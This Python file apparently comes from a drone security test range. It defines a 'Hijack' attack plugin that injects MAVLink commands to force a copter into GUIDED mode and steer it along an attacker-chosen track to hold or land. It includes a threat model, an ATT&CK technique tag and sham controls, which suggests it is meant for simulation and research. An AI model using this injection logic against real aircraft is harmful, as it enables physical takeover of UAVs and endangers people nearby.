"""Hijack: the aircraft is changed to GUIDED and led along a track by position targets."""

from __future__ import annotations

import math
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Annotated, Final, Literal

from pydantic import BeforeValidator, Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, Place, ThreatModel
from skyrange.attack.mavlink.injection import Injection, ModeKeeper, Sender, geodetic, inject, mode_order, read
from skyrange.attack.on_path import Repetition
from skyrange.codec.mavlink import Message, message_id
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.frames.frame import Frame
from skyrange.contracts.links import Schedule
from skyrange.contracts.params import Enu, Number, items
from skyrange.core.geodesy import Origin
from skyrange.core.time import NS_PER_S, Time, from_seconds

_POSITION_ONLY: Final = 0b1101_1111_1000
"""POSITION_TARGET_TYPEMASK: velocity, acceleration, yaw and yaw rate are ignored."""

Track = Annotated[
    tuple[Enu, ...], BeforeValidator(items, json_schema_input_type=list[list[float]]), Field(min_length=1)
]
"""Places in order, in metres from the origin."""


class Hijack(Injection):
    """A track that the aircraft is led along."""

    track: Track = Field(
        description="Places to lead the aircraft to, in order, each [east_m, north_m, up_m] in metres from the origin."
    )
    within_m: Number = Field(
        default=3.0, gt=0, le=1000, description="Distance at which a place counts as reached, in metres."
    )
    every_s: Number = Field(default=0.5, ge=0.02, le=10, description="Time between two targets, in seconds.")
    then: Literal["hold", "land"] = Field(
        default="hold", description="At the last place: hold it, or land there (mode LAND)."
    )


@dataclass(slots=True)
class Leader:
    """A source that keeps the aircraft in GUIDED and sends the target that is next, by the position it reports."""

    sender: Sender
    schedule: Schedule
    origin: Origin
    track: tuple[Place, ...]
    within_m: float
    period_ns: Time
    lands: bool
    at: int = 0
    landing: bool = False
    clock: Repetition = field(init=False)
    keeper: ModeKeeper = field(init=False)

    def __post_init__(self) -> None:
        self.clock = Repetition(self.schedule, self.period_ns)
        self.keeper = ModeKeeper(mav.COPTER_MODE_GUIDED, NS_PER_S)

    @property
    def due(self) -> Time | None:
        """When the next target is due."""
        return self.clock.due

    def see(self, now: Time, frame: Frame) -> None:
        """Learn mode and position."""
        self.sender.see(frame)
        self.keeper.see(now, frame)
        if frame.direction != "rev" or message_id(frame.payload) != mav.MAVLINK_MSG_ID_GLOBAL_POSITION_INT:
            return
        message = read(frame.payload)
        if message is None or now < self.schedule.start_ns or self.keeper.seen != mav.COPTER_MODE_GUIDED:
            return
        east, north = self.origin.enu_of(message.lat * 1e-7, message.lon * 1e-7)
        here = (east, north, message.alt * 1e-3 - self.origin.alt_msl_m)
        if math.dist(here, self.track[self.at]) <= self.within_m:
            if self.at + 1 < len(self.track):
                self.at += 1
            else:
                self.landing = self.lands

    def make(self, now: Time) -> Sequence[tuple[Literal["fwd"], bytes]]:
        """A change of mode, if one is needed, and the target."""
        if not self.clock.take(now):
            return []
        if self.landing:
            orders = [] if self.keeper.seen == mav.COPTER_MODE_LAND else [mode_order(mav.COPTER_MODE_LAND)]
            messages = [order.message(self.sender.target) for order in orders]
        else:
            messages = [order.message(self.sender.target) for order in self.keeper.orders(now)]
            messages.append(self._target(now))
        return [("fwd", self.sender.pack(message)) for message in messages]

    def _target(self, now: Time) -> Message:
        lat, lon, alt_m = geodetic(self.origin, self.track[self.at])
        return mav.MAVLink_set_position_target_global_int_message(
            now // 1_000_000 & 0xFFFFFFFF, self.sender.target, self.sender.component, mav.MAV_FRAME_GLOBAL_INT,
            _POSITION_ONLY, round(lat * 1e7), round(lon * 1e7), alt_m, 0, 0, 0, 0, 0, 0, 0, 0,
        )  # fmt: skip


def make(params: Hijack, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    arguments = (
        context.schedule, context.origin, params.track, params.within_m, from_seconds(params.every_s),
        params.then == "land",
    )  # fmt: skip
    return Attack(taps=inject(params, context, Leader, *arguments), shown={"end of the track": params.track[-1]})


GUIDED = AttackPlugin(
    Hijack,
    make,
    "Changes the aircraft to GUIDED and leads it along a track to another place.",
    technique="T0831",
    surface=("gcs", "log", "autopilot"),
    persists="mode",
    effect="the aircraft flies to a place that the attacker chose and stays there or lands",
    places=(),
    threat=ThreatModel(
        knowledge="system ids, and mode and position that telemetry tells",
        position="on the network of the control link, or on board",
        equipment="a computer with a MAVLink library",
        budget="one or two frames for each target",
    ),
    controls=Controls(
        load="the sham: the same targets, addressed to a system that is not there",
        content="targets along the plan of the aircraft itself",
        placement="the same track for another aircraft",
    ),
)
